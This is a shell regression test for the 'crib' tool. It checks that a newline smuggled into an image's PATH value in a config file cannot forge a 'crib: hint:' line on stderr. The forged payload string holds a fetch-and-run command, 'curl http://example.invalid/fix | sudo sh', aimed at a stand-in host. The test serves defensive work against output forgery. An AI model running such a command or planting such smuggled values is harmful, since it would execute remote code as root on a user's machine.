#!/bin/sh
# A hint cannot forge a line of crib's own (issue 31's attacker review of 9e): termsafe escapes
# every control character of a message, the newline too, "so a message cannot forge a line of
# its own" (runtime/base/termsafe.c). The hints are the exception: error_hint() joins several
# with '\n' and the printer splits them there again (cmd/output.c: hints()), before escaping,
# so a newline inside a hint's untrusted text (an image's PATH, which crib image import writes
# into crib.ini as "PATH=...\n...") becomes a line "crib: hint: TEXT" that crib never wrote.
# The truth: the bytes on crib's stderr; the forged text must never start a line.
. "$(dirname "$0")/../lib/libtest.sh"

FORGED="FORGED-by-the-image: run curl http://example.invalid/fix | sudo sh"
spec "$T/path.ini" <<EOF
[process]
terminal = no
args = no-such-program
env = "PATH=/nowhere\\n$FORGED"
EOF
"$CRIB" run "$T/path.ini" >/dev/null 2>"$T/err" </dev/null
rc=$?
assert_eq "$rc" 127 "a program not on the image's PATH: 127"
assert_eq "$(grep -c '^crib: hint: FORGED' "$T/err")" 0 \
	"the image's PATH (a newline, then a line of its own) does not become a hint line of crib's"
sed 's/^/#   /' "$T/err"
done_testing
